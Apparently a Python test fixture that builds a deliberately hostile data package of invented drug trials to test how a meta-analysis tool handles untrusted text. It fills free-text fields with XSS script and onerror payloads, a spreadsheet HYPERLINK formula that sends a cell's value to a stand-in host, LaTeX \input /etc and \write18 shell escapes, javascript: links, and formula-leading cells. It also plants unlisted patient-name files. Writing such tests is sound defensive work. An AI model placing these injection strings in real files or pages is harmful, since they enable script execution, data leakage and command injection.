"""A data package of somebody who means harm: markup, formulas and commands wherever words go."""

from __future__ import annotations

import csv
import io
import json
import tomllib
from pathlib import Path
from typing import Any

from synthesis.living.start.arm_counts import read_arm_lines
from synthesis.living.start.start_package import CountedTable, start_package

ARMS = """\
trial,treatment,responders,n
Trial A,placebo,5,50
Trial A,madeupinib 10 mg,15,50
Trial B,placebo,6,60
Trial B,madeupinib 10 mg,20,58
Trial C,placebo,4,40
Trial C,inventimab 5 mg,12,41
"""
MARK = "ha7m"  # in every one of the texts below, to find them again
MARKUP = f"<!--<script>alert('{MARK}')</script>\"><img src=x onerror=alert('{MARK}')> ]]>"
FORMULA = f'=HYPERLINK("http://{MARK}.example/?"&A1;"look")'
TEX = f"\\input{{/etc/{MARK}}} {{}} % $ # _ ^ ~ & \\write18{{{MARK}}}"
MYST = (
    f"[{MARK}](javascript:alert(1)) {{eval}}`{MARK}` {{{{ {MARK} }}}} ```{{code-cell}} $x$ %s {{}}"
)
STARTS = [f"{sign}{MARK}" for sign in "=+-@"]
SECRET = "a patient's name"


def write_hostile_package(folder: Path) -> Path:
    """A sound package whose every free text is hostile, with files that it does not list."""
    arms = folder.parent / "arms.csv"
    arms.write_text(ARMS, encoding="utf-8")
    lines = read_arm_lines(arms, "", "", "placebo", "")
    tables = [CountedTable("RESPONSE", arms.name, lines, False)]
    tables.append(CountedTable("harm", arms.name, lines, True))
    start_package(folder, "Title", tables, "https://example.org/made-up")
    _spoil_table(folder / "trials.csv", first_author=FORMULA, journal=TEX, source_locator=MYST)
    _spoil_table(folder / "trials.csv", notes=FORMULA, design_detail="@" + MARK)
    _spoil_table(folder / "arms.csv", notes=MYST, source_locator="-" + MARK)
    _spoil_table(folder / "dichotomous.csv", notes=FORMULA, source_locator="+" + MARKUP)
    _spoil_table(folder / "adverse_events.csv", notes=TEX, source_locator="=" + MARKUP)
    _spoil_words(folder / "vocabulary.toml")
    _spoil_words(folder / "analyses.toml")
    description = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    description["licenses"] = [{"name": MARKUP, "path": f"javascript:alert('{MARK}')"}]
    (folder / "datapackage.json").write_text(json.dumps(description), encoding="utf-8")
    (folder / "patients.csv").write_text(f"name\n{SECRET}\n", encoding="utf-8")
    (folder / "patients.xlsx").write_text(SECRET, encoding="utf-8")
    (folder / ".hidden.csv").write_text(SECRET, encoding="utf-8")
    return folder


def _spoil_table(path: Path, **texts: str) -> None:
    with path.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    for number, row in enumerate(rows):
        row.update(texts)
        if "trial_name" in row:
            row["trial_name"] = (FORMULA, MARKUP, TEX + MYST)[number % 3]
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(text.getvalue(), encoding="utf-8", newline="")


# Of each kind of entry, the fields that hold words.
WORDS = {
    "subject": ("title", "disease", "treatments", "condition", "population"),
    "outcome": ("name", "meaning", "response", "description"),
    "event": ("name", "description"),
    "drug_class": ("name",),
    "drug": ("name",),
    "background": ("beside", "setting"),
    "family": ("name",),
    "analysis": ("title", "question"),
    "network": ("title", "question"),
    "harm": ("title", "question"),
}
TEXTS = (MARKUP, FORMULA, TEX, MYST, *STARTS)


def _spoil_words(path: Path) -> None:
    content = tomllib.loads(path.read_text(encoding="utf-8"))
    number = 0
    for kind, entries in content.items():
        for entry in entries if isinstance(entries, list) else [entries]:
            for field in WORDS.get(kind, ()):
                event = "{event} " if kind == "harm" else ""
                entry[field] = f"{TEXTS[number % len(TEXTS)]} {event}{number}"
                number += 1
            if kind == "subject":
                entry["authors"] = [f"{FORMULA} one", f"{TEX} two"]
                entry["keywords"] = [MARKUP, FORMULA]
    if "subject" in content:
        content["page"] = [
            {"id": "response", "title": f"{FORMULA} {MARKUP}", "question": MYST, "text": MYST + TEX}
        ]
    path.write_text(_toml(content), encoding="utf-8")


def _toml(content: dict[str, Any]) -> str:
    lines: list[str] = []
    for kind, entries in content.items():
        many = isinstance(entries, list)
        for entry in entries if many else [entries]:
            lines.append(f"[[{kind}]]" if many else f"[{kind}]")
            # A text in JSON is one in TOML.
            lines += [f"{name} = {json.dumps(value)}" for name, value in entry.items()]
    return "\n".join(lines) + "\n"
